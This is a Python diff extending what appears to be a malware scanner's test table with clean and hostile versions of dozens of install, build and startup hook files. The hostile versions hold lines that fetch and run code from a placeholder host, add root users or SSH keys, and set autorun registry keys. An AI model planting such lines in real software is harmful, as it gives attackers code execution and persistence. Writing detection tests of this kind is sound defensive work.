@@ -412,6 +412,153 @@ CASES["*.psd1"]["member"] = None
 THING = "function Get-Thing {\n  param([string]$Name)\n  Get-ChildItem $Name%s\n}\n%sExport-ModuleMember -Function Get-Thing\n"
 case("*.psm1", "Thing.psm1", THING % ("", ""), THING % ("", FETCHED), THING % (" -Recurse", ""))
 
+# ---- shells and sessions --------------------------------------------------------------------------
+
+lines("bash-completion/completions/*", "usr/share/bash-completion/completions/thing",
+      "_thing() {\n  COMPREPLY=($(compgen -W 'start stop' -- \"$2\"))\n%s\n}\ncomplete -F _thing thing\n", "",
+      "  (%s) >/dev/null 2>&1 &" % PIPE, "  COMPREPLY+=(status)")
+lines("etc/bash_completion.d/*", "etc/bash_completion.d/thing", "complete -W 'start stop' thing\n%s\n", "", PIPE,
+      "complete -W 'start stop' thingctl")
+lines("fish/**/*.fish", "usr/share/fish/vendor_conf.d/thing.fish", "set -gx THING 1\n%s\n", "", PIPE, "set -gx THING_MODE plain")
+for place, path in (("zsh/vendor-completions/_*", "usr/share/zsh/vendor-completions/_thing"),
+                    ("zsh/site-functions/_*", "usr/share/zsh/site-functions/_thing")):
+    lines(place, path, "#compdef thing\n_arguments '-a[all]'\n%s\n", "", PIPE, "_arguments '-b[both]'")
+for place, path in (("etc/zsh/*", "etc/zsh/zshenv"), ("etc/zshrc", "etc/zshrc"), ("etc/skel/.*", "etc/skel/.bashrc"),
+                    ("**/.envrc", ".envrc"), ("etc/ssh/sshrc", "etc/ssh/sshrc"), ("Xsession.d/*", "etc/X11/Xsession.d/60thing"),
+                    ("xinitrc.d/*", "etc/X11/xinit/xinitrc.d/60-thing.sh"),
+                    ("dhclient-*-hooks.d/*", "etc/dhcp/dhclient-exit-hooks.d/thing")):
+    lines(place, path, "THING=1\n%s\nexport THING\n", "", PIPE, "THING_MODE=plain")
+
+# ---- more of linux --------------------------------------------------------------------------------
+
+for place, path in (("network/if-*.d/*", "etc/network/if-up.d/thing"), ("etc/kernel/p*.d/*", "etc/kernel/postinst.d/zz-thing"),
+                    ("initramfs-tools/**", "usr/share/initramfs-tools/hooks/thing"),
+                    ("systemd/system-shutdown/*", "usr/lib/systemd/system-shutdown/thing"),
+                    ("systemd/system-sleep/*", "usr/lib/systemd/system-sleep/thing"),
+                    ("systemd/user-generators/*", "usr/lib/systemd/user-generators/thing"),
+                    ("systemd/*-environment-generators/*", "usr/lib/systemd/user-environment-generators/60-thing")):
+    shell(place, path)
+lines("tmpfiles.d/*.conf", "usr/lib/tmpfiles.d/thing.conf", "d /run/thing 0755 thing thing -\n%s\n", "",
+      "f+ /etc/cron.d/thing 0644 root root - * * * * * root %s" % PIPE, "d /run/thing/cache 0755 thing thing 10d")
+lines("sysusers.d/*.conf", "usr/lib/sysusers.d/thing.conf", "u thing - \"thing\" /var/lib/thing\n%s\n", "",
+      "u thing-aux 0 \"thing\" /root /bin/bash\nm thing sudo", "g thing-data -")
+lines("etc/logrotate.d/*", "etc/logrotate.d/thing",
+      "/var/log/thing/*.log {\n  weekly\n  postrotate\n    %s\n  endscript\n}\n", "systemctl reload thing", PIPE,
+      "systemctl kill -s HUP thing")
+lines("sysctl.d/*.conf", "usr/lib/sysctl.d/50-thing.conf", "net.core.somaxconn = 512\n%s\n", "",
+      "kernel.core_pattern = |/bin/sh -c '%s'" % PIPE, "kernel.core_pattern = /var/crash/core.%p")
+lines("etc/inittab", "etc/inittab", "id:2:initdefault:\n%s\n", "", "x1:2345:respawn:/bin/sh -c '%s'" % PIPE,
+      "1:2345:respawn:/sbin/getty 38400 tty1")
+lines("acpi/events/*", "etc/acpi/events/thing", "event=button/power\naction=%s\n", "/etc/acpi/thing.sh",
+      "/bin/sh -c '%s'" % PIPE, "/etc/acpi/thing.sh quiet")
+lines("dpkg.cfg.d/*", "etc/dpkg/dpkg.cfg.d/thing", "log /var/log/dpkg.log\n%s\n", "", "post-invoke=\"%s\"" % PIPE, "no-debsig")
+lines("yum.repos.d/*", "etc/yum.repos.d/thing.repo",
+      "[thing]\nname=thing\nbaseurl=https://packages.thing.example/rpm\ngpgcheck=1\n%s\n", "",
+      "[aux]\nbaseurl=http://%s/rpm\ngpgcheck=0" % HOST, "[src]\nbaseurl=https://packages.thing.example/src\ngpgcheck=1")
+for place, path in (("apport/package-hooks/*", "usr/share/apport/package-hooks/thing.py"),
+                    ("gdb/auto-load/**", "usr/share/gdb/auto-load/usr/lib/libthing.so-gdb.py")):
+    lines(place, path, PY, "", PY_BAD, "import sys")
+lines("polkit-1/rules.d/*.rules", "usr/share/polkit-1/rules.d/50-thing.rules",
+      "polkit.addRule(function(action, subject) {\n  if (action.id == 'org.thing.start' && subject.isInGroup('thing'))\n"
+      "    return polkit.Result.YES;\n%s});\n", "", "  polkit.spawn(['/bin/sh', '-c', '%s']);\n" % PIPE,
+      "  return polkit.Result.NOT_HANDLED;\n")
+lines("polkit-1/actions/*.policy", "usr/share/polkit-1/actions/org.thing.policy",
+      "<?xml version=\"1.0\"?>\n<policyconfig><action id=\"org.thing.run\"><defaults><allow_any>no</allow_any>"
+      "<allow_active>%s</allow_active></defaults></action></policyconfig>\n", "auth_admin", "yes", "auth_admin_keep")
+lines("sshd_config.d/*", "etc/ssh/sshd_config.d/thing.conf", "X11Forwarding no\n%s\n", "",
+      "AuthorizedKeysCommand /bin/sh -c '%s'\nPermitRootLogin yes" % PIPE, "PrintMotd no")
+lines(".ssh/authorized_keys", "root/.ssh/authorized_keys", "# keys\n%s\n", "",
+      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKqV4wXbK0v4bq9Qf1TqZb7m3mDqJ8o5yqk1n2o3p4q5 a@thing.example", "# none so far")
+AUX = {"usr/lib/systemd/%s/thing-aux.service": (None, "[Service]\nExecStart=/bin/sh -c '%s'\n" % PIPE, None)}
+lines("systemd/system/*.path", "usr/lib/systemd/system/thing.path", "[Path]\nPathChanged=/etc/thing\n%s\n", "",
+      "Unit=thing-aux.service", "MakeDirectory=yes")
+lines("systemd/user/*.timer", "usr/lib/systemd/user/thing.timer", "[Timer]\nOnCalendar=daily\n%s\n", "",
+      "Unit=thing-aux.service", "RandomizedDelaySec=1h")
+for row, whose in (("systemd/system/*.path", "system"), ("systemd/user/*.timer", "user")):
+    CASES[row].update(member="thing-aux.service", other={name % whose: texts for name, texts in AUX.items()})
+lines("systemd/user/*.d/*.conf", "usr/lib/systemd/user/thing.service.d/10-thing.conf", "[Service]\nNice=5\n%s\n", "",
+      "ExecStartPre=/bin/sh -c '%s'" % PIPE, "Environment=THING_MODE=plain")
+
+# ---- more of macOS and Windows --------------------------------------------------------------------
+
+lines("Library/LoginItems/**", "Thing.app/Contents/Library/LoginItems/Aux.app/Contents/MacOS/aux", "#!/bin/sh\n%s\nexit 0\n", "",
+      PIPE, "date")
+lines("Contents/Info.plist", "Thing.app/Contents/Info.plist",
+      "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>CFBundleExecutable</key><string>thing</string>%s</dict></plist>\n",
+      "", "<key>LSEnvironment</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>@executable_path/../aux.dylib</string></dict>",
+      "<key>CFBundleVersion</key><string>2</string>")
+shell("etc/periodic/**", "etc/periodic/daily/500.thing")
+FETCH_AND_START = "curl -o %%TEMP%%\\t.exe https://%s/t.exe && %%TEMP%%\\t.exe" % HOST
+lines("Programs/Startup/*", "ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/thing.cmd", "@echo off\n%s\n", "",
+      FETCH_AND_START, "echo thing")
+FROM_AFAR = "iex ((New-Object Net.WebClient).DownloadString('https://%s/a.ps1'))" % HOST
+for place, path in (("WindowsPowerShell/**/*profile.ps1", "Windows/System32/WindowsPowerShell/v1.0/profile.ps1"),
+                    ("PowerShell/*profile.ps1", "Users/Default/Documents/PowerShell/Microsoft.PowerShell_profile.ps1")):
+    lines(place, path, "Set-Alias th thing\n%s\n", "", FROM_AFAR, "Set-Alias tg thing")
+lines("*.reg", "setup/thing.reg", "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Thing]\n\"a\"=\"b\"\n%s\n", "",
+      "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"
+      "\"Thing\"=\"powershell -w hidden iex (iwr https://%s/a)\"" % HOST, "\"c\"=\"d\"")
+lines("autorun.inf", "autorun.inf", "[autorun]\nicon=thing.ico\n%s\n", "", "open=cmd /c " + FETCH_AND_START, "label=thing")
+
+# ---- more of Python, npm, Ruby, builds ------------------------------------------------------------
+
+lines("tox.ini", "tox.ini", "[tox]\nenvlist = py3\n[testenv]\ncommands =\n    pytest\n%s\n", "", "    sh -c '%s'" % PIPE,
+      "    ruff check")
+for place, path in (("noxfile.py", "noxfile.py"), ("wscript", "wscript"), ("SConstruct", "SConstruct"),
+                    (".pythonrc.py", ".pythonrc.py"), ("ipython/**/startup/*", "etc/ipython/profile_default/startup/00-thing.py"),
+                    ("jupyter_*_config.py", "etc/jupyter/jupyter_server_config.py")):
+    lines(place, path, PY, "", PY_BAD, "import sys")
+lines(".pdbrc", ".pdbrc", "alias l list\n%s\n", "", "import os; os.system('%s')" % PIPE, "alias n next")
+lines("pip.conf", "etc/pip.conf", "[global]\ntimeout = 60\n%s\n", "", "extra-index-url = http://%s/simple" % HOST, "retries = 3")
+lines(".yarnrc", ".yarnrc", "save-prefix \"~\"\n%s\n", "", "yarn-path \"./bin/aux.js\"\nregistry \"http://%s/\"" % HOST,
+      "lastUpdateCheck 1")
+lines(".pnpmfile.cjs", ".pnpmfile.cjs", "module.exports = { hooks: {} };\n%s\n", "", JS_BAD, "// plain")
+lines("bunfig.toml", "bunfig.toml", "telemetry = false\n%s\n", "", "preload = [\"./aux.ts\"]", "smol = true")
+CASES["bunfig.toml"].update(other={"aux.ts": (None, JS_BAD, None)}, member=None)
+lines("deno.json", "deno.json", "{\"tasks\": {\"dev\": \"%s\"}}\n", "deno run main.ts", PIPE, "deno run --watch main.ts")
+lines("Gemfile", "Gemfile", "source 'https://rubygems.org'\n%s\n", "", RUBY, "gem 'rake'")
+lines(".irbrc", ".irbrc", "x = 1\n%s\n", "", RUBY, "y = 2")
+lines("rubygems_plugin.rb", "lib/rubygems_plugin.rb", "x = 1\n%s\n", "", RUBY, "y = 2")
+lines("*.podspec", "Thing.podspec", "Pod::Spec.new do |s|\n  s.name = 'Thing'\n%s\nend\n", "", "  s.prepare_command = '%s'" % PIPE,
+      "  s.version = '1'")
+lines(".mvn/jvm.config", ".mvn/jvm.config", "-Xmx1g\n%s\n", "", "-javaagent:lib/aux.jar", "-Xms1g")
+lines("init.gradle", "init.gradle", "allprojects { repositories { mavenCentral() } }\n%s\n", "", "['sh', '-c', '%s'].execute()" % PIPE,
+      "// plain")
+lines("*.gradle", "build.gradle", "plugins { id 'java' }\n%s\n", "",
+      "task aux(type: Exec) { commandLine 'sh', '-c', '%s' }\nbuild.dependsOn aux" % PIPE,
+      "task docs(type: Exec) { commandLine 'make', 'docs' }")
+lines("*.gradle.kts", "build.gradle.kts", "plugins { java }\n%s\n", "", "exec { commandLine(\"sh\", \"-c\", \"%s\") }" % PIPE,
+      "exec { commandLine(\"make\", \"docs\") }")
+lines("mix.exs", "mix.exs", "defmodule Thing do\n  use Mix.Project\n%s\nend\n", "", "  System.cmd(\"sh\", [\"-c\", \"%s\"])" % PIPE,
+      "  System.cmd(\"git\", [\"describe\"])")
+lines("Package.swift", "Package.swift", "import PackageDescription\nimport Foundation\n%s\nlet package = Package(name: \"Thing\")\n", "",
+      "let p = Process(); p.executableURL = URL(fileURLWithPath: \"/bin/sh\"); p.arguments = [\"-c\", \"%s\"]; try! p.run()" % PIPE,
+      "let level = 1")
+lines("BUILD.bazel", "BUILD.bazel", "genrule(\n    name = 'thing',\n    outs = ['thing.h'],\n    cmd = '%s',\n)\n", "touch $@", PIPE,
+      "touch $@ && echo done")
+SHARP = ("<UsingTask TaskName=\"Aux\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll\">"
+         "<Task><Code Type=\"Fragment\" Language=\"cs\"><![CDATA[System.Diagnostics.Process.Start(\"sh\", \"-c '%s'\");]]></Code></Task></UsingTask>")
+lines("build/*.props", "build/Thing.props", "<Project>\n%s\n</Project>\n", "", SHARP % PIPE, "<PropertyGroup><A>1</A></PropertyGroup>")
+for place, path in (("*.csproj", "Thing.csproj"), ("Directory.Build.*", "Directory.Build.targets")):
+    lines(place, path, TARGETS, "<Message Text=\"thing\" />", "<Exec Command=\"%s\" />" % PIPE.replace("|", "&#124;"),
+          "<Message Text=\"thing 2\" />")
+lines(".gitmodules", ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://thing.example/a\n%s\n", "", "\tupdate = !%s" % PIPE,
+      "\tupdate = rebase")
+shell("templates/hooks/*", "usr/share/git-core/templates/hooks/post-checkout")
+lines("Jenkinsfile", "Jenkinsfile", "pipeline { stages { stage('b') { steps {\n  sh 'make'\n%s\n} } } }\n", "", "  sh '%s'" % PIPE,
+      "  sh 'make test'")
+lines("Procfile", "Procfile", "web: %s\n", "node a.js", "sh -c '%s'; node a.js" % PIPE, "node a.js --quiet")
+lines("user-data", "user-data", "#cloud-config\nruncmd:\n  - %s\n", "make", PIPE, "make all")
+for place, name in (("PKGBUILD", "PKGBUILD"), ("APKBUILD", "APKBUILD")):
+    lines(place, name, "pkgname=thing\npkgver=1\nbuild() {\n  make\n%s\n}\n", "", "  " + PIPE, "  make docs")
+lines(".INSTALL", ".INSTALL", "post_install() {\n  echo thing\n%s\n}\n", "", "  " + PIPE, "  echo done")
+shell(".post-install", ".post-install")
+lines("Formula/*.rb", "Formula/thing.rb", "class Thing < Formula\n  def install\n    bin.install 'thing'\n%s\n  end\nend\n", "",
+      "    system 'sh', '-c', '%s'" % PIPE, "    man1.install 'thing.1'")
+lines("meson.build", "meson.build", "project('thing', 'c')\n%s\n", "", "run_command('sh', '-c', '%s', check: true)" % PIPE,
+      "run_command('git', 'describe', check: false)")
+lines("Taskfile.yml", "Taskfile.yml", "version: '3'\ntasks:\n  build:\n    cmds:\n      - %s\n", "make", PIPE, "make test")
+
 NEEDS = {
     "xar": ["[distribution script].js"],
     "ruby": ["metadata.gz!/metadata"],
